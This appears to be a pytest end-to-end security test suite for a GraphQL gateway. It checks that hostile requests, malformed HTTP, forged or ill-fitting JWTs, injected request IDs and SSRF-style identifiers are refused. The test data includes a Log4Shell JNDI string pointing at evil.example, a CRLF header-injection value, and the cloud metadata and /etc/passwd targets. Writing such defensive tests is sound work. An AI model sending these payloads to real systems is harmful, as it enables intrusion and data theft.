"""A gateway in the open: requests that mean harm are refused with the right status and code, soon, and in little memory."""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from joserfc import jwt
from joserfc.jwk import OKPKey

from tests.e2e.gateways import Child, child_gateway
from tests.e2e.hostile import ASKED, SPOKEN, TOKENS, Asked, Spoken
from tests.e2e.stubs import declaration

LONGEST_S = 10.0
"""A hang is a failure; this is no measure of speed."""
MOST_GROWTH_KB = 150_000


@pytest.fixture(scope="module")
def child(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Child]:
    tmp = tmp_path_factory.mktemp("hostile")
    systems = tmp / "systems"
    systems.mkdir()
    (systems / "aa.yaml").write_text(declaration("AA", "http://127.0.0.1:9"), encoding="utf-8")
    with child_gateway(
        tmp, systems, {}, local_issuer="true", body_timeout_s="0.5", max_loop_lag_ms="0"
    ) as running:
        running.client.http.timeout = LONGEST_S
        yield running


def resident_kb(child: Child) -> int:
    for line in Path(f"/proc/{child.process.pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


@pytest.fixture(scope="module", autouse=True)
def _alive_and_lean(child: Child) -> Iterator[None]:
    """After all of them the gateway answers, has logged no fault of its own, and holds no more than before."""
    child.client.data("{ __typename }", token=None)
    before = resident_kb(child)
    yield
    assert child.client.data("{ __typename }", token=None) == {"__typename": "Query"}
    assert resident_kb(child) - before < MOST_GROWTH_KB
    assert child.lines("unhandled") == []
    assert child.lines("engine failed") == []


def answer_of(reply: httpx.Response) -> tuple[int, str]:
    body = reply.json()
    codes = {error["extensions"]["code"] for error in body["errors"]}
    assert "data" not in body
    assert len(body["errors"]) <= 21
    assert len(reply.content) < 20_000
    assert "Traceback" not in reply.text
    [code] = codes
    return reply.status_code, code


@pytest.mark.parametrize("asked", ASKED, ids=lambda one: one.name)
def test_a_hostile_request_is_refused(child: Child, asked: Asked) -> None:
    method, path, headers, body = asked.sent()
    reply = child.client.http.request(method, path, headers=headers, content=body)
    assert answer_of(reply) == (asked.status, asked.code)


@pytest.mark.parametrize("spoken", SPOKEN, ids=lambda one: one.name)
def test_what_is_no_honest_http_is_refused_and_the_connection_closed(child: Child, spoken: Spoken) -> None:
    parts = urlsplit(child.client.url)
    with socket.create_connection((str(parts.hostname), int(parts.port or 0)), timeout=LONGEST_S) as raw:
        try:
            for piece in spoken.pieces:
                raw.sendall(piece)
        except (BrokenPipeError, ConnectionResetError):
            pass  # refused before all was said
        got = b""
        try:
            while chunk := raw.recv(65536):
                got += chunk
        except ConnectionResetError:
            pass  # closed while bytes of ours were still on their way
    head, _, body = got.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 %d " % spoken.status), got[:300]
    assert got.count(b"HTTP/1.1 ") == spoken.answers
    assert json.loads(body)["errors"][0]["extensions"]["code"] == spoken.code


@pytest.fixture(scope="module")
def key(child: Child) -> OKPKey:
    folder = Path(child.log.parent / "data" / "issuer")
    return OKPKey.import_key(json.loads((folder / "key.json").read_text()))


def good_claims() -> dict[str, object]:
    now = int(time.time())
    return {
        "iss": "quanyu-local",
        "aud": "quanyu",
        "sub": "mallory",
        "iat": now,
        "exp": now + 600,
        "scope": "cases:read",
    }


def bearing(child: Child, token: str) -> tuple[int, str]:
    method, path, headers, body = Asked("", 0, "", token=token).sent()
    return answer_of(child.client.http.request(method, path, headers=headers, content=body))


@pytest.mark.parametrize("name", TOKENS)
def test_a_forged_token_is_nobodys(child: Child, key: OKPKey, name: str) -> None:
    token = TOKENS[name](dict(key.as_dict(private=False)), good_claims())
    assert bearing(child, token) == (401, "UNAUTHENTICATED")


@pytest.mark.parametrize(
    "change",
    [
        {"aud": "another"},
        {"iss": "another"},
        {"exp": 1},
        {"exp": None},
        {"nbf": 32503680000},
        {"exp": "tomorrow"},
    ],
    ids=["wrong audience", "wrong issuer", "expired", "without an end", "not yet", "no time"],
)
def test_a_signed_token_that_does_not_fit_is_refused(
    child: Child, key: OKPKey, change: dict[str, object]
) -> None:
    def token(claims: dict[str, object]) -> str:
        given = {name: value for name, value in claims.items() if value is not None}
        return str(jwt.encode({"alg": "Ed25519", "kid": key.kid}, given, key, algorithms=["Ed25519"]))

    assert child.client.data("{ __typename }", token=token(good_claims())) == {"__typename": "Query"}
    assert bearing(child, token(good_claims() | change)) == (401, "UNAUTHENTICATED")


@pytest.mark.parametrize("given", ["a%0d%0aset-cookie: x=1", "x" * 200, "${jndi:ldap://evil.example/a}"])
def test_a_request_id_that_could_harm_is_not_taken(child: Child, given: str) -> None:
    headers = {"x-request-id": given, "graphql-client-name": given, "origin": "https://evil.example"}
    reply = child.client.http.post("/graphql", json={"query": "{ __typename }"}, headers=headers)
    assert reply.status_code == 200
    assert "set-cookie" not in reply.headers
    assert reply.headers["x-request-id"] != given
    assert "access-control-allow-origin" not in reply.headers
    assert given not in child.text()


def test_another_host_cannot_be_made_a_system(child: Child) -> None:
    for case in ("http://169.254.169.254/", "AA@127.0.0.1:1", "//evil.example", "file:///etc/passwd"):
        asked = child.client.ask("query ($id: ID!) { case(id: $id) { id } }", {"id": case})
        assert asked.data == {"case": None}
        assert asked.codes[0] in ("SYSTEM_UNKNOWN", "IDENTIFIER_INVALID")


def test_forwarded_addresses_of_strangers_are_not_believed(child: Child) -> None:
    reply = child.client.http.post(
        "/graphql",
        json={"query": "{ __typename }"},
        headers={"x-forwarded-for": "10.0.0.1", "forwarded": "for=10.0.0.1", "x-forwarded-proto": "https"},
    )
    assert reply.status_code == 200


def test_there_are_at_least_forty_of_them() -> None:
    names = [one.name for one in ASKED] + [one.name for one in SPOKEN] + list(TOKENS)
    assert len(set(names)) == len(names) >= 40
